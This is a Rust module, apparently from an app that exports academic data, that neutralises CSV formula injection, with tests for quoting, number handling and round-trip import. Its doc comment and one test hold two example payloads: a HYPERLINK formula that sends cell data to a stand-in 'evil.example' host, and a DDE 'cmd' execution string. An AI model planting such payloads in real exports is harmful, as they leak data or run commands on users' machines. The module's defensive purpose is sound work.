//! Every CSV the app writes goes through [`CsvOut`], and every CSV it reads through [`reader`]
//! and [`plain_record`], because a CSV is opened in a spreadsheet and a spreadsheet runs cells as
//! formulas. A challenge titled `=HYPERLINK("http://evil.example/?x="&B2,"Open")`, or a sign-in
//! email `@SUM(1+1)*cmd|' /C calc'!A0` in the audit trail, would run on the faculty member's
//! machine when they open the export (OWASP, "CSV Injection").
//!
//! The rules, in one place:
//! - **Text cells** that begin with `=`, `+`, `-`, `@`, tab or carriage return get a single
//!   quote `'` in front, as OWASP advises; spreadsheets then show the cell as text. So does
//!   a text cell that is only quotes before such a character (`'=x` is written `''=x`), so
//!   that taking the quote off again is exact.
//! - **Number cells** ([`Cell::int`], [`Cell::decimal`]) are written as they are. The app
//!   formats them itself from an integer, so they are digits with at most a leading `-` and a
//!   point: `-3` is the number minus three to a spreadsheet, never a formula, and a quote would
//!   turn it into text and break sums. Any text that merely looks like a number (a measure
//!   answer typed as "-3", a name) is a text cell and is neutralised.
//! - Fields are quoted as RFC 4180 asks (comma, double quote, CR or LF inside; quotes doubled),
//!   and also when they hold a semicolon or a tab: a spreadsheet set to split on those (Excel in
//!   many European locales splits on `;`) would otherwise start a new cell in the middle of
//!   ours, and that cell would not have been neutralised. Otherwise the bytes are what the `csv`
//!   crate's writer makes (comma-separated, `\n` line ends, no byte-order mark).
//! - Importers take the quote off again ([`plain`]): only when what follows it is one of those
//!   characters (after any further quotes), so an export reads back exactly and a real value
//!   such as `'Twas` is left alone.

use std::path::Path;

/// The first characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a text, once any leading quotes are skipped, starts like a formula.
fn formula_like(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// A text cell as it is written: with a leading `'` when it would start like a formula.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if formula_like(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The inverse of [`neutralise`], for importers: drops one leading `'` when what follows it
/// starts like a formula; anything else is returned as it is.
pub fn plain(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest,
        _ => cell,
    }
}

/// One cell of a CSV the app writes: text (neutralised) or a number the app formatted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell(Kind);

#[derive(Debug, Clone, PartialEq, Eq)]
enum Kind {
    Text(String),
    /// Only ever made from an integer here, so it cannot carry a formula.
    Number(String),
}

impl Cell {
    pub fn text(text: impl Into<String>) -> Cell {
        Cell(Kind::Text(text.into()))
    }

    pub fn int(n: i64) -> Cell {
        Cell(Kind::Number(n.to_string()))
    }

    /// A decimal number kept as whole units of 10^-places: `decimal(35, 1)` is `3.5`,
    /// `decimal(30, 1)` is `3.0`, `decimal(-15, 1)` is `-1.5`.
    pub fn decimal(units: i64, places: u32) -> Cell {
        if places == 0 {
            return Cell::int(units);
        }
        let scale = 10u64.pow(places);
        let sign = if units < 0 { "-" } else { "" };
        let a = units.unsigned_abs();
        let width = places as usize;
        Cell(Kind::Number(format!(
            "{sign}{}.{:0width$}",
            a / scale,
            a % scale
        )))
    }

    /// The cell as it goes into the file, before CSV quoting.
    fn written(&self) -> std::borrow::Cow<'_, str> {
        match &self.0 {
            Kind::Text(t) => neutralise(t),
            Kind::Number(n) => n.as_str().into(),
        }
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Cell {
        Cell::text(text)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Cell {
        Cell::text(text)
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Cell {
        Cell::int(n)
    }
}

/// Nothing is an empty cell.
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(v: Option<T>) -> Cell {
        v.map_or_else(|| Cell::text(""), Into::into)
    }
}

/// A CSV being written: a header row of `N` names, then rows of `N` cells each (the count is
/// checked when the code is compiled, so no row can come out ragged).
#[derive(Debug)]
pub struct CsvOut<const N: usize> {
    bytes: Vec<u8>,
}

impl<const N: usize> CsvOut<N> {
    pub fn new(header: [&str; N]) -> CsvOut<N> {
        let mut out = CsvOut { bytes: vec![] };
        out.row(header.map(Cell::text));
        out
    }

    pub fn row(&mut self, cells: [Cell; N]) {
        for (i, cell) in cells.iter().enumerate() {
            if i > 0 {
                self.bytes.push(b',');
            }
            let field = cell.written();
            // A lone empty field is quoted, or the row would read back as a blank line.
            if needs_quotes(&field) || (N == 1 && field.is_empty()) {
                self.bytes.push(b'"');
                self.bytes
                    .extend_from_slice(field.replace('"', "\"\"").as_bytes());
                self.bytes.push(b'"');
            } else {
                self.bytes.extend_from_slice(field.as_bytes());
            }
        }
        self.bytes.push(b'\n');
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.bytes
    }

    /// Writes the file at `path`.
    pub fn write_to(self, path: &Path) -> std::io::Result<()> {
        std::fs::write(path, self.bytes)
    }
}

fn needs_quotes(field: &str) -> bool {
    field
        .bytes()
        .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n' | b';' | b'\t'))
}

/// The separator a spreadsheet used: whichever of comma, semicolon or tab its header has most.
fn delimiter(text: &str) -> u8 {
    let header = text.lines().next().unwrap_or("");
    [b',', b';', b'\t']
        .into_iter()
        .max_by_key(|d| header.matches(*d as char).count())
        .unwrap_or(b',')
}

/// A reader for a CSV someone brings in: a byte-order mark dropped, the separator guessed from
/// the header, rows of any length. Read its header and records through [`plain_record`].
pub fn reader(text: &str) -> csv::Reader<&[u8]> {
    let text = text.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .delimiter(delimiter(text))
        .flexible(true)
        .from_reader(text.as_bytes())
}

/// A record as its writer meant it: every field through [`plain`], the position kept.
pub fn plain_record(record: &csv::StringRecord) -> csv::StringRecord {
    let mut out: csv::StringRecord = record.iter().map(plain).collect();
    out.set_position(record.position().cloned());
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::{Rng, SeedableRng};

    fn text(cells: &[&str]) -> String {
        let mut out = CsvOut::<3>::new(["a", "b", "c"]);
        out.row([cells[0].into(), cells[1].into(), cells[2].into()]);
        String::from_utf8(out.into_bytes()).unwrap()
    }

    /// Reads `bytes` back as an importer does.
    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let text = std::str::from_utf8(bytes).unwrap();
        let mut r = reader(text);
        let mut rows = vec![plain_record(r.headers().unwrap())
            .iter()
            .map(str::to_owned)
            .collect::<Vec<_>>()];
        for rec in r.records() {
            rows.push(
                plain_record(&rec.unwrap())
                    .iter()
                    .map(str::to_owned)
                    .collect(),
            );
        }
        rows
    }

    #[test]
    fn each_trigger_gets_a_quote_and_ordinary_text_does_not() {
        for (cell, written) in [
            ("=1+1", "'=1+1"),
            ("+44 20 7946 0000", "'+44 20 7946 0000"),
            ("-3", "'-3"),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''+x", "'''+x"),
            ("'Twas brillig", "'Twas brillig"),
            ("'", "'"),
            ("Reduce delays", "Reduce delays"),
            ("a=b", "a=b"),
            (" =x", " =x"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
            assert_eq!(plain(written), cell, "{written:?}");
        }
        // Text that was never neutralised is left alone by the importers.
        for cell in ["'Twas", "'", "''", "'x=1", "plain"] {
            assert_eq!(plain(cell), cell);
        }
    }

    #[test]
    fn numbers_are_written_as_numbers_and_text_that_looks_like_one_is_not() {
        let mut out = CsvOut::<5>::new(["n", "d", "neg", "text", "none"]);
        out.row([
            Cell::int(-3),
            Cell::decimal(35, 1),
            Cell::decimal(-15, 1),
            Cell::text("-3"),
            None::<i64>.into(),
        ]);
        out.row([
            0.into(),
            Cell::decimal(30, 1),
            Cell::decimal(-5, 2),
            "x".into(),
            Some(7).into(),
        ]);
        let text = String::from_utf8(out.into_bytes()).unwrap();
        assert_eq!(
            text,
            "n,d,neg,text,none\n-3,3.5,-1.5,'-3,\n0,3.0,-0.05,x,7\n"
        );
    }

    #[test]
    fn the_payloads_from_the_finding_are_quoted_and_neutralised() {
        let title = r#"=HYPERLINK("http://evil.example/?x="&B2,"Open")"#;
        let email = "@SUM(1+1)*cmd|' /C calc'!A0";
        assert_eq!(
            text(&[title, email, "ok"]),
            "a,b,c\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"Open\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,ok\n"
        );
        // A semicolon or tab inside a cell is quoted, so no spreadsheet splits it there.
        assert_eq!(
            text(&["a;=1+1", "b\t=1+1", "c"]),
            "a,b,c\n\"a;=1+1\",\"b\t=1+1\",c\n"
        );
    }

    #[test]
    fn a_lone_empty_field_is_quoted_so_the_row_is_kept() {
        let mut out = CsvOut::<1>::new(["only"]);
        out.row(["".into()]);
        out.row(["-".into()]);
        let bytes = out.into_bytes();
        assert_eq!(bytes, b"only\n\"\"\n'-\n");
        assert_eq!(read_back(&bytes), [["only"], [""], ["-"]]);
    }

    /// A string built from the characters that matter here, and a few others.
    fn awkward(rng: &mut impl Rng) -> String {
        const PARTS: &[&str] = &[
            "=",
            "+",
            "-",
            "@",
            "\t",
            "\r",
            "\n",
            "\r\n",
            "'",
            "''",
            "\"",
            ",",
            ";",
            " ",
            "a",
            "Z",
            "0",
            "9",
            ".",
            "é",
            "漢",
            "|",
            "!",
            "(",
            ")",
            "=HYPERLINK(\"x\")",
            "'Twas",
        ];
        let n = rng.gen_range(0..8);
        (0..n)
            .map(|_| PARTS[rng.gen_range(0..PARTS.len())])
            .collect()
    }

    #[test]
    fn any_text_reads_back_exactly_and_never_opens_as_a_formula() {
        let mut rng = rand::rngs::StdRng::seed_from_u64(14);
        for _ in 0..20_000 {
            let row: [String; 4] = std::array::from_fn(|_| awkward(&mut rng));
            // Through the `csv` crate's own reader, as the brief for this module asks...
            let mut out = CsvOut::<4>::new(["a", "b", "c", "d"]);
            out.row(row.clone().map(Cell::text));
            let bytes = out.into_bytes();
            let mut r = csv::Reader::from_reader(bytes.as_slice());
            let rec = r.records().next().unwrap().unwrap();
            let back: Vec<&str> = rec.iter().map(plain).collect();
            assert_eq!(back, row, "{:?}", String::from_utf8_lossy(&bytes));
            // ...and as a spreadsheet sees it: no field starts like a formula.
            for field in rec.iter() {
                assert!(!field.starts_with(TRIGGERS), "{field:?}");
            }
            // ...and through the importers' reader.
            assert_eq!(read_back(&bytes)[1], row);
        }
    }

    #[test]
    fn without_triggers_semicolons_or_tabs_the_bytes_are_the_csv_crates() {
        let mut rng = rand::rngs::StdRng::seed_from_u64(4180);
        let mut compared = 0;
        for _ in 0..20_000 {
            let row: [String; 3] = std::array::from_fn(|_| awkward(&mut rng));
            if row
                .iter()
                .any(|c| formula_like(c) || c.contains([';', '\t']))
            {
                continue;
            }
            compared += 1;
            let mut ours = CsvOut::<3>::new(["a", "b", "c"]);
            ours.row(row.clone().map(Cell::text));
            let mut theirs = csv::Writer::from_writer(vec![]);
            theirs.write_record(["a", "b", "c"]).unwrap();
            theirs.write_record(&row).unwrap();
            assert_eq!(ours.into_bytes(), theirs.into_inner().unwrap(), "{row:?}");
        }
        assert!(compared > 1_000);
    }
}
